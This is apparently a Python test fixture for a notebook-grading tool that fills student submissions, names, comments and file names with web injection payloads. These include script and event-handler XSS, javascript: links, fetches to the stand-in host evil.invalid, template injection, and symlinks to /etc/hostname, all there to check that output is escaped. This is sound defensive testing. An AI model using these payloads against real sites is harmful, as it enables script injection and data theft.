"""A graded cohort in which every learner tries to run something at the coach's."""

import sqlite3
from contextlib import closing
from pathlib import Path

from pdpmo_widgets.coach.begin import begin
from pdpmo_widgets.coach.cohort import Cohort
from pdpmo_widgets.coach.feedback import feedback
from pdpmo_widgets.coach.grade import grade
from pdpmo_widgets.coach.report import report
from pdpmo_widgets.coach.review import give
from pdpmo_widgets.grading.course import Course
from tests.grading import handing
from tests.grading.spoil import STEM, Spoil, cell, notebook

RUN = "window.pwned=1;fetch('/api/contents?pwned=1');fetch('http://evil.invalid/pwned')"
TRIES = (
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f'<svg onload="{RUN}"><script>{RUN}</script></svg>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<details open ontoggle="{RUN}"><input autofocus onfocus="{RUN}">',
    "<style>@import url(http://evil.invalid/pwned.css);</style>",
    '<link rel=stylesheet href="http://evil.invalid/pwned.css">',
    '<meta http-equiv="refresh" content="0;url=http://evil.invalid/pwned">',
    "<base href=http://evil.invalid/pwned/><form action=//evil.invalid><button>x",
    f"[press](javascript:{RUN}) ![x](http://evil.invalid/pwned.png)",
    f"<javascript:{RUN}> [ref]: javascript:{RUN}",
    r"$\href{javascript:window.pwned=1}{press}$ \(\class{pwned}{x}\) $$\unicode{x}$$",
    r"\begin{equation}\href{javascript:window.pwned=1}{x}\end{equation}",
    f"</textarea></script></li></div>--><script>{RUN}</script><!--",
    "{{ self }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    f'<x-card-model onclick="{RUN}" style="position:fixed;inset:0">',
)
ALL = "\n\n".join(TRIES)
NAME = "<img src=x onerror=window.pwned=1>"
PEOPLE = {
    "eve": NAME,
    "mallory": "<script>window.pwned=1</script>",
    "trudy": "</script><svg onload=window.pwned=1>",
    "zoe": "${window.pwned=1} {{window.pwned=1}}",
}


def _words(book: dict) -> None:
    cell(book, "charter")["source"] = ALL
    for kind in ("markdown", "raw", "code", "html"):
        about = {"format": "text/html", "trusted": True}
        book["cells"].append({"cell_type": kind, "metadata": about, "source": ALL})


def _shown(book: dict) -> None:
    kinds = ("text/html", "image/svg+xml", "application/javascript", "text/latex",
             "text/markdown", "text/plain",
             "application/vnd.jupyter.widget-view+json")  # fmt: skip
    data = dict.fromkeys(kinds, ALL)
    data["application/javascript"] = RUN
    shown = {"output_type": "display_data", "metadata": {"pdpmo": {}}, "data": data}
    for one in book["cells"]:
        one.setdefault("metadata", {})["trusted"] = True
        one["attachments"] = {"x.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9ImEiLz4="}}
        if one["cell_type"] == "code":
            one["outputs"] = [shown, {**shown, "output_type": "execute_result"}]
    book["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": data}
    book["metadata"]["title"] = ALL


def _names(folder: Path) -> None:
    for name in (NAME, "<svg onload=window.pwned=1>.txt", "'-window.pwned=1-'.md"):
        (folder / name).write_text(ALL, "utf-8")
        (folder / f"link {name}").symlink_to("/etc/hostname")
    (folder / "pwned.html").write_text(ALL, "utf-8")
    (folder / f"{STEM}.ipynb").rename(folder / f"{NAME}.ipynb")


def _bare(book: dict) -> None:
    _words(book)
    for one in book["cells"]:
        one["metadata"] = {}


SPOILS: dict[str, Spoil] = {
    "eve": notebook(_words),
    "mallory": notebook(_shown),
    "trudy": _names,
    "zoe": notebook(_bare),
}


def cohort(folder: Path) -> Cohort:
    """The cohort, handed in, graded, reviewed, with its feedback and its report."""
    rows = [f'{id},"{name}","{name}",{id}@example.org' for id, name in PEOPLE.items()]
    (folder / "list.csv").write_text(
        "\n".join(["id,first name,last name,e-mail", *rows]), "utf-8"
    )
    quiet = {"tell": lambda _: None}
    made = begin(folder / "c", folder / "list.csv", name=NAME, **quiet)
    course = Course(made.folder, root=made.folder)
    for id, spoil in SPOILS.items():
        answers = handing.of_purpose(id, "best")
        text = answers["charter"]["text"]
        filled = {key: ALL if isinstance(v, str) else v for key, v in text.items()}
        answers["charter"] = {"text": filled}
        spoil(course.hand_in(STEM, id, handing.book("purpose", id, answers)))
    grade(made, STEM, **quiet)
    for row in "123":
        give(made, "eve", "charter", row, "2", ALL[:4000], STEM, coach=NAME)
    with closing(sqlite3.connect(made.folder / "gradebook.db")) as book:
        book.execute("update comment set manual_comment = ?", (ALL,))
        book.commit()
    feedback(made, STEM, pdf=False, **quiet)
    report(made, STEM, **quiet)
    return made
